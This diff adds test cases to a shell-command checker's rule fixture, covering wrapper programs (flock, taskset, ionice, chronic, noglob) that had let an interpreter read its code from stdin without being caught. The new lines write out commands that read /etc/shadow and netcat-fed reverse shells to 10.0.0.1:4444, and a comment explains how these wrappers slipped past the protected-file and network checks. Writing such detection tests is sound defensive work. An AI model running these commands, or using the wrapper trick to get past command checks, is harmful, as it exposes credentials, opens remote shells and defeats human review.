@@ -125,3 +125,28 @@ ln -s src/main.py main.py
 cp -l src/a.txt b.txt
 # ok: GK-PROT-001
 ln -s . self
+
+# -- Wrappers that run their command on their own stdin, one list for every checker
+# (`shell.effects.STDIN_WRAPPERS`): the protected check knew 13 of them, the network check 9.
+# bash: `flock F python3 <<< CODE`, `ionice -c3 …`, `taskset 1 …` ran CODE (a marker file),
+# and `printf 'touch M' | flock F sh` (and ionice, taskset) ran the piped line. Behind the
+# missing ones a credential named in the program, and a shell fed by netcat, were only
+# "an interpreter reading stdin" (REVIEW, a reviewer could approve them) -------------------
+# ruleid: GK-PROT-002
+flock f python3 <<< 'print(open("/etc/shadow").read())'
+# ruleid: GK-PROT-002
+chronic python3 <<< 'print(open("/etc/shadow").read())'
+# ruleid: GK-PROT-002
+noglob perl <<< 'open F, "/etc/shadow"; print <F>'
+# ruleid: GK-NET-001
+nc 10.0.0.1 4444 | flock f sh
+# ruleid: GK-NET-001
+nc 10.0.0.1 4444 | taskset 1 sh
+# ruleid: GK-NET-001
+nc 10.0.0.1 4444 | ionice -c3 bash
+# ruleid: GK-NET-001
+nc 10.0.0.1 4444 | chronic sh
+# ok: GK-PROT-002
+flock f cat <<< 'hello'
+# ok: GK-NET-001
+echo hi | taskset 1 cat
